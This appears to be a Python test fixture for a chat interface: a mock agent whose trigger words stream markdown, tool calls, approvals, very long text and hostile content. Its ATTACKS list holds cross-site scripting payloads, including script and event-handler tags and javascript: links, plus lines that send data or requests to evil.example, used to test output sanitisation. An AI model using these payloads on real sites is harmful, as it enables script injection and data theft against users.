"""The agent behind the page in its tests: each word that it is asked for shows something else."""

import asyncio
from collections.abc import AsyncGenerator, Callable
from typing import Any, Final

from hostile_markdown import BEYOND, END, fuzzed
from usechat import Chat, Document, File, Reasoning, Source, ToolCall, ToolError, ToolResult
from usechat.protocol.chunks import Error

__all__ = ["ATTACKS", "agent"]

_MARKDOWN: Final = """\
# Tides

The sea rises and falls **twice** a day, see [the table](https://tides.example/table).

| place | high | low |
|---|---|---|
| Brest | 7.1 m | 1.2 m |
| Saint-Malo | 12.0 m | 1.9 m |

1. Look up the moon.
2. Add `12 h 25 min`.

```python
def high_tide(hours: float) -> float:
    return hours + 12.42
```

> Spring tides follow the full moon.
"""
_PIXEL: Final = (
    "data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg' width='320' height='160'>"
    "<rect width='320' height='160' fill='%231f6f63'/><circle cx='240' cy='56' r='26' fill='%23faefd8'/>"
    "<path d='M0 110 q40 -24 80 0 t80 0 t80 0 t80 0 V160 H0z' fill='%2374c7b8'/></svg>"
)
_DOT: Final = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
# What would run, or set this mark, if any of it became HTML or a link that is followed.
ATTACKS: Final = (
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "<svg onload='window.hacked = 1'></svg>",
    "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
    "[click](javascript:window.hacked=1)",
    "[click](JaVaScRiPt:window.hacked=1)",
    "[click](&#106;avascript:window.hacked=1)",
    "[click](data:text/html,<script>window.hacked=1</script>)",
    "[click](vbscript:window.hacked=1)",
    '![x](x" onerror="window.hacked=1)',
    "<a href='javascript:window.hacked=1'>click</a>",
    "<details open ontoggle='window.hacked = 1'>x</details>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example/'><button>x</button></form>",
    "![x](https://evil.example/pixel.png?stolen=secret)",
    "`<img src=x onerror=window.hacked=1>`",
    "```html\n<img src=x onerror=window.hacked=1>\n```",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
    "javascript:window.hacked=1",
)

# The turns that wait for a message of another chat.
_waiting: Final[dict[str, asyncio.Event]] = {}
_failed: Final[set[str]] = set()


async def agent(chat: Chat) -> AsyncGenerator[Any, None]:
    """Do what the message's first word says, or say the message again."""
    if chat.approvals or chat.tool_results:
        async for event in _go_on(chat):
            yield event
        return
    show = _SHOWS.get(chat.text.partition(" ")[0], _echo)
    async for event in show(chat):
        yield event


async def _go_on(chat: Chat) -> AsyncGenerator[Any, None]:
    for approval in chat.approvals:
        if approval.approved:
            yield ToolResult(approval.call_id, {"deleted": True})
            yield "It is deleted."
        else:
            chat.write.tool_denied(approval.call_id)
            yield f"I leave it. You said: {approval.reason}."
    for answer in chat.tool_results:
        yield f"The browser says {answer.output!r}."


async def _echo(chat: Chat) -> AsyncGenerator[Any, None]:
    for word in f"You said: {chat.text}".split():
        yield f"{word} "
        await asyncio.sleep(0)


async def _markdown(_chat: Chat) -> AsyncGenerator[Any, None]:
    yield Reasoning("The moon pulls at the sea, and the sun does, too.")
    for start in range(0, len(_MARKDOWN), 12):
        yield _MARKDOWN[start : start + 12]
        await asyncio.sleep(0.002)


async def _tools(chat: Chat) -> AsyncGenerator[Any, None]:
    chat.write.tool_input_start("tide", "tide")
    for piece in ('{"place": "Br', 'est", "day', '": "today"}'):
        chat.write.tool_input_delta("tide", piece)
        await asyncio.sleep(0.01)
    chat.write.tool_input("tide", "tide", {"place": "Brest", "day": "today"})
    yield ToolResult("tide", {"high": "7.1 m at 06:12", "low": "1.2 m at 12:24"})
    yield ToolCall("boat", "book_boat", {"place": "Brest"})
    yield ToolError("boat", "The harbour does not answer.")
    yield "High water is at **06:12**. No boat could be booked."


async def _approve(chat: Chat) -> AsyncGenerator[Any, None]:
    yield ToolCall("drop", "delete_file", {"path": "data/tides.csv"})
    chat.write.approval_request("drop")


async def _browser(_chat: Chat) -> AsyncGenerator[Any, None]:
    yield ToolCall("where", "location", {"precise": False})


async def _long(chat: Chat) -> AsyncGenerator[Any, None]:
    yield "It begins"
    number = 0
    while not chat.stopping.is_set():
        yield f" {number}"
        number += 1
        await asyncio.sleep(0.02)


async def _waits(chat: Chat) -> AsyncGenerator[Any, None]:
    yield "It begins, "
    await _waiting.setdefault(chat.text.split()[1], asyncio.Event()).wait()
    yield "and it ends."


async def _types(chat: Chat) -> AsyncGenerator[Any, None]:
    chat.write.tool_input_start("tide", "tide")
    chat.write.tool_input_delta("tide", '{"place": "Saint-Ma')
    await _waiting.setdefault(chat.text.split()[1], asyncio.Event()).wait()
    chat.write.tool_input("tide", "tide", {"place": "Saint-Malo"})
    chat.write.tool_output("tide", "rising", preliminary=True)
    yield ToolResult("tide", "high")


async def _wide(chat: Chat) -> AsyncGenerator[Any, None]:
    """Words that no line is long enough for, everywhere."""
    long = "Donaudampfschifffahrt" * 20
    write = chat.write
    write.tool_input("wide", long[:60], {"input": long})
    write.tool_output("wide", long)
    for name in (
        "todos",
        "node",
        "question",
        "file-written",
        "agent-status",
        "flow-status",
        "subagent-start",
        long[:60],
    ):
        todos = [{"content": long, "status": "pending"}]
        data = {"nodeId": long, "status": long, "path": long, "flowName": long, "name": long, "task": long}
        write.data(name, {**data, "todos": todos, "text": long, "state": "open", "options": [long]})
    write.source_url(f"https://{long}.example", title=long)
    write.file(f"data:text/plain,{long}", "text/plain")
    write.reasoning(long)
    yield "\n\n".join(
        form.format(long) for form in ("{}", "# {}", "`{}`", "```\n{}\n```", "| {} |\n|---|", "> {}", "1. {}")
    )
    yield Error(long)


async def _release(chat: Chat) -> AsyncGenerator[Any, None]:
    _waiting.setdefault(chat.text.split()[1], asyncio.Event()).set()
    yield "It goes on."


async def _many(chat: Chat) -> AsyncGenerator[Any, None]:
    count = int(chat.text.split()[1])
    for number in range(count):
        chat.write.text("\n\n" if number % 40 == 39 else f"word{number} ")
        if number % 100 == 99:
            await asyncio.sleep(0)
    yield "That is all."


async def _files(chat: Chat) -> AsyncGenerator[Any, None]:
    files = [part for part in chat.messages[-1].parts if part["type"] == "file"]
    yield ", ".join(f"{file['mediaType']}: {file['filename']}" for file in files)


async def _slowly(_chat: Chat) -> AsyncGenerator[Any, None]:
    for number in range(50):
        yield f"{number} "
        await asyncio.sleep(0.025)


async def _fails(chat: Chat) -> AsyncGenerator[Any, None]:
    yield "I try. "
    if chat.text in _failed:
        yield "Now it works."
    else:
        _failed.add(chat.text)
        yield Error("The agent ran aground.")


async def _parts(chat: Chat) -> AsyncGenerator[Any, None]:
    write = chat.write
    write.data("flow-status", {"status": "running", "flowName": "Harbour"}, id="flow-status")
    write.data("node", {"nodeId": "pilot", "runId": "1", "status": "complete"}, id="1")
    todos = [("Look up the tide", "completed"), ("Ask for a boat", "in_progress"), ("Set sail", "pending")]
    write.data("todos-changed", {"todos": [{"content": text, "status": status} for text, status in todos]}, id="todos")
    write.data("file-written", {"path": "log.md", "content": "# Log\n06:12 high water"})
    write.data("execute-finish", {"command": "tide --today", "exitCode": 0, "truncated": False})
    write.data("web-search-finish", {"query": "tides in Brest", "resultCount": 3})
    write.data("subagent-start", {"name": "navigator", "task": "find the way out"})
    write.data("agent-status", {"status": "thinking", "detail": "at the chart"}, id="agent-status")
    question = {"questionId": "q1", "state": "open", "text": "Which boat?", "options": ["The red one", "The blue one"]}
    write.data("question", question, id="q1")
    write.data("weather", {"wind": "4 Bft", "from": "west"})
    yield "مرحبا بالعالم، كيف حالك اليوم؟\n\n潮の満ち引きは月によって起こります。\n\nAnd in English again."
    yield Source("https://tides.example/brest", "Tides in Brest")
    yield Document("Almanac", "application/pdf", "almanac.pdf")
    yield File(_PIXEL, "image/svg+xml")
    write.metadata({"usage": {"inputTokens": 1234, "outputTokens": 56, "totalTokens": 1290}, "cost": 0.0042})


async def _hostile(chat: Chat) -> AsyncGenerator[Any, None]:
    name = chat.text.partition(" ")[2]
    yield f"{BEYOND[name] if name in BEYOND else fuzzed(name)}\n\n{END}"


async def _usual(_chat: Chat) -> AsyncGenerator[Any, None]:
    """A long list and a long program."""
    for number in range(300):
        yield f"- **Place {number}**: call `tide_of({number})`, see [the *table*](https://tides.example/{number})\n"
    lines = [f"    tides[{number}] = high_water_of[{number}] * scale_of[{number}]" for number in range(1_500)]
    yield "\n```python\n" + "\n".join(line if place % 15 else "" for place, line in enumerate(lines)) + "\n```\n"


async def _images(_chat: Chat) -> AsyncGenerator[Any, None]:
    yield File("/named/1.svg", "image/svg+xml")
    addresses = ("/named/1.svg", "/named/2.svg", "/api/chats", "/allowed/3.svg", "/allowed/../named/4.svg", _DOT)
    yield "\n\n".join(f"![{number}](<{address}>)" for number, address in enumerate(addresses))


async def _attack(chat: Chat) -> AsyncGenerator[Any, None]:
    write = chat.write
    for number, attack in enumerate(ATTACKS):
        write.tool_input(f"t{number}", attack[:60], {"input": attack, attack: 1})
        write.tool_output(f"t{number}", attack)
        write.data("weather", {attack: attack})
        write.data("todos", {"todos": [{"id": attack, "content": attack, "status": attack}]})
        write.data("file-written", {"path": attack, "content": attack})
        write.data("question", {"questionId": attack, "state": "open", "text": attack, "options": [attack]})
        write.data("agent-status", {"status": attack, "detail": attack})
        write.source_url(attack, title=attack)
        write.source_document(attack, "text/html", filename=attack)
        write.file(attack, "text/html")
        write.file(attack, "image/png")
        write.reasoning(f"{attack}\n\n")
        write.text(f"{attack}\n\n")
    write.metadata({"usage": {"inputTokens": ATTACKS[0]}})
    yield "The end of the attack."


_SHOWS: Final[dict[str, Callable[[Chat], AsyncGenerator[Any, None]]]] = {
    "markdown": _markdown,
    "tools": _tools,
    "approve": _approve,
    "browser": _browser,
    "long": _long,
    "waits": _waits,
    "types": _types,
    "wide": _wide,
    "release": _release,
    "many": _many,
    "slowly": _slowly,
    "fails": _fails,
    "files": _files,
    "parts": _parts,
    "attack": _attack,
    "hostile": _hostile,
    "usual": _usual,
    "images": _images,
}
